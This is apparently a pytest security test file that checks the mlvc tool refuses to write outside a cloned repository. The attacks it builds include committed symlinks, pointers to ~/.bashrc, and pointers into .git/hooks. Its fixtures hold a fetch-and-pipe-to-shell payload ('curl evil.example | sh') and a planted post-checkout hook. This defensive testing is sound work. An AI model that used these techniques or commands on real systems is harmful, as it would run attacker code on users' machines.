"""A cloned repository cannot make mlvc write outside it: the committed-symlink attack, for real.

The attacker commits a symlink `home -> ../victim_home` and a pointer whose path goes through it
(`path: home/.bashrc`), pushes the objects, and the victim clones and pulls.  Nothing outside the
clone may change, with or without `--force`, and the refusal is a bad-path error (exit 4).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mlvc.errors import EXIT_BAD_PATH, EXIT_BAD_POINTER, EXIT_PARTIAL

from helpers import cli, commit, ok, write
from remote.helpers import add_remote, clone, make_repo

ORIGINAL = b"# the victim's own shell setup\n"
PAYLOAD = b"curl evil.example | sh\n"


def _retarget(repo: Path, pointer: str, new_pointer: str, new_path: str) -> None:
    """Rewrite a pointer so that it names `new_path` (what an attacker would commit)."""
    text = (repo / pointer).read_text().replace(f"path: {Path(pointer).name[:-5]}\n", f"path: {new_path}\n")
    assert f"path: {new_path}\n" in text
    (repo / pointer).unlink()
    write(repo / new_pointer, text.encode())


@pytest.fixture
def attack(tmp_path: Path, local_url) -> dict:
    """An attacker's repository pushed to a directory remote, and a victim's home beside the clone."""
    evil = make_repo(tmp_path / "evil")
    add_remote(evil, local_url)
    write(evil / "payload", PAYLOAD)
    for i in range(3):
        write(evil / "tree" / f"sub{i}" / "f.txt", PAYLOAD * (i + 1))
    ok(evil, "add", "-q", "payload", "tree")
    ok(evil, "push", "-q")
    _retarget(evil, "payload.mlvc", "bashrc.mlvc", "home/.bashrc")
    _retarget(evil, "tree.mlvc", "tree-in-home.mlvc", "home/planted")
    (evil / "payload").unlink()
    os.symlink("../victim_home", evil / "home")
    (evil / ".gitignore").write_text("")  # the real paths are gone; keep the link committed
    commit(evil, "innocent-looking commit")
    victim = clone(evil, tmp_path / "victim" / "clone")
    # the clone is where the link resolves: victim/clone/home -> victim/victim_home
    victim_home = tmp_path / "victim" / "victim_home"
    write(victim_home / ".bashrc", ORIGINAL)
    assert (victim / "home").is_symlink()
    return {"victim": victim, "home": victim_home}


def _home_untouched(home: Path) -> None:
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]
    assert (home / ".bashrc").read_bytes() == ORIGINAL


@pytest.mark.parametrize("force", [False, True])
def test_pull_through_a_committed_symlink_writes_nothing_outside(attack, force) -> None:
    victim, home = attack["victim"], attack["home"]
    code, _out, err = cli(victim, "pull", *(["--force"] if force else []))
    _home_untouched(home)
    assert code in (EXIT_BAD_PATH, EXIT_PARTIAL), err
    assert "home/.bashrc" in err and "symlink" in err and "Traceback" not in err
    assert "home/planted" in err  # the kind: dir pointer is refused the same way


def test_checkout_through_a_committed_symlink_is_exit_4(attack) -> None:
    victim, home = attack["victim"], attack["home"]
    ok(victim, "fetch", "-q")
    for args in (["checkout", "bashrc.mlvc"], ["checkout", "--force", "bashrc.mlvc"],
                 ["checkout", "--force", "tree-in-home.mlvc"]):
        code, _out, err = cli(victim, *args)
        assert code == EXIT_BAD_PATH, (args, err)
        assert "symlink" in err and "nothing was written" in err
        _home_untouched(home)
    tmp = victim / ".mlvc" / "tmp"
    assert not tmp.exists() or not list(tmp.iterdir())  # no temp file left behind either
    code, _out, err = cli(victim, "status")
    assert code != 0 and "symlink" in err + _out
    _home_untouched(home)


def test_a_symlink_where_the_artifact_itself_should_be_is_replaced_only_with_force(tmp_path, local_url) -> None:
    repo = make_repo(tmp_path / "evil")
    add_remote(repo, local_url)
    write(repo / "data" / "a.txt", b"tracked")
    ok(repo, "add", "-q", "data")
    ok(repo, "push", "-q")
    commit(repo, "v1")
    victim = clone(repo, tmp_path / "victim" / "clone")
    outside = write(tmp_path / "victim" / "outside" / "keep.txt", b"mine")
    os.symlink("../outside", victim / "data")
    code, _out, err = cli(victim, "pull")
    assert code != 0 and "--force" in err
    assert sorted(os.listdir(outside.parent)) == ["keep.txt"]
    ok(victim, "pull", "--force", "-q")
    assert not (victim / "data").is_symlink() and (victim / "data" / "a.txt").read_bytes() == b"tracked"
    assert sorted(os.listdir(outside.parent)) == ["keep.txt"] and outside.read_bytes() == b"mine"


def test_export_to_a_directory_refuses_a_symlink_inside_it(tmp_path, local_url) -> None:
    repo = make_repo(tmp_path / "repo")
    write(repo / "data" / "x" / "a.txt", b"tracked")
    ok(repo, "add", "-q", "data")
    commit(repo, "v1")
    dest = tmp_path / "export"
    (dest / "data").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, dest / "data" / "x")
    code, _out, err = cli(repo, "checkout", "HEAD", "--to", str(dest))
    assert code == EXIT_BAD_PATH, err
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("where", [".git/hooks", ".GIT/hooks", "sub/.git/hooks", ".mlvc"])
def test_a_pointer_into_git_or_mlvc_is_refused_even_with_force(tmp_path, local_url, where) -> None:
    """A committed pointer naming `.git/hooks` (a directory artifact holding an executable
    `post-checkout`) would run the attacker's code on the victim's next git command."""
    evil = make_repo(tmp_path / "evil")
    add_remote(evil, local_url)
    hook = write(evil / "hooks" / "post-checkout", b"#!/bin/sh\ntouch /tmp/mlvc-pwned\n")
    hook.chmod(0o755)
    ok(evil, "add", "-q", "hooks")
    ok(evil, "push", "-q")
    _retarget(evil, "hooks.mlvc", "hooks.mlvc", where)
    (evil / ".gitignore").write_text("")
    commit(evil, "tooling")
    victim = clone(evil, tmp_path / "victim")
    before = sorted(p.name for p in (victim / ".git" / "hooks").iterdir())
    config = (victim / ".mlvc" / "config").read_bytes()
    for args in (["pull"], ["pull", "--force"], ["checkout", "--force"]):
        code, _out, err = cli(victim, *args)
        assert code == EXIT_BAD_POINTER, (args, err)
        assert "unsafe path" in err and "Traceback" not in err, err
        assert sorted(p.name for p in (victim / ".git" / "hooks").iterdir()) == before
        assert not (victim / ".GIT").exists() and not (victim / "sub").exists()
        assert (victim / ".mlvc" / "config").read_bytes() == config
